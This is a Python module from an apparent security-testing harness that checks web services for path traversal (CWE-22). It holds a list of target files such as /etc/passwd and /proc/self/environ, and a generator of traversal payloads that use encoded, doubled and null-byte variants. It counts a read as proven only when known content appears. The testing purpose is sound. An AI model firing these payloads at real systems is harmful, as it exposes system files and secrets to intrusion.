"""Path traversal (CWE-22): a name in a request reaches files that are not the caller's.

It refuses to guess from a status: only the content of a known file counts. Known files are those that every service
container has; a task adds canaries of its own.
"""

import re
from collections.abc import Callable, Iterator, Mapping, Sequence

from harness_probe import exploited
from harness_probe.attacks.attempts import Attempts, Call, Send, controlled, masked, shown

Place = Callable[[str], Call]  # the request with a file's name in the place under attack, not encoded any further
# absolute path -> what its content looks like; paths and contents by the submission contract and any Debian
CANARIES: Mapping[str, str] = {
    "/etc/passwd": r"root:[^:\n]*:0:0:",
    "/proc/self/environ": r"DATABASE_URL=|PORT=\d+",
    "/proc/self/cmdline": r"(?:python[\d.]*|node|/build/app)(?:\\u0000|\x00|\s+-)",
    "/app/Procfile": r"^web:",
    "/app/requirements.txt": r"(?im)^[a-z][\w.-]*(\[[\w,]+\])?==\d",
    "/data/app.db": r"SQLite format 3",
}
DEPTHS = (1, 2, 3, 5, 8)


def reading(
    send: Send,
    place: Place,
    known: str,
    shows: str,
    canaries: Mapping[str, str] | None = None,
    secrets: Sequence[str] = (),
) -> None:
    """Names that lead elsewhere. The control: `known` is a name that works and shows the text `shows`.

    canaries: absolute path -> regular expression of its content, beside the general ones; secrets: values of the
    environment that no file shown may hold.
    """
    tries = Attempts()
    honest = controlled(send, place(known), "a legitimate name", shows)
    wanted = {**CANARIES, **(canaries or {})}
    for path, content in wanted.items():
        if re.search(content, honest.text):
            continue  # what a legitimate answer holds too tells nothing
        for name in names(path, known):
            answer = tries.send(place(name), send)
            if answer is None or answer.status_code >= 400:
                continue
            text = masked(answer, name)
            found = re.search(content, text) or next((s for s in secrets if s in text), None)
            if found:
                exploited(f"the name {name!r} reads {path}: {shown(answer)}")
    tries.end()


def names(path: str, known: str = "") -> Iterator[str]:
    """Ways to write the absolute `path` from an unknown folder: relative, encoded once and twice, with other slashes,
    with doubled dots that survive one removal, absolute, as a URL, and behind a legitimate name."""
    bare = path.lstrip("/")
    yield from (path, f"/{path}", f"file://{path}", path.replace("/", "%2f"), path.replace("/", "%252f"))
    for depth in DEPTHS:
        for step in (
            "../",
            "..%2f",
            "%2e%2e/",
            "%2e%2e%2f",
            "%252e%252e%252f",
            "....//",
            "..\\",
            "..%5c",
            "%c0%ae%c0%ae/",
        ):
            yield step * depth + bare
        yield f"{known}/" + "../" * (depth + 1) + bare
        yield f"{known}%2f" + "..%2f" * (depth + 1) + bare.replace("/", "%2f")
        yield "../" * depth + bare + "%00" + (known[known.rfind(".") :] if "." in known else ".txt")
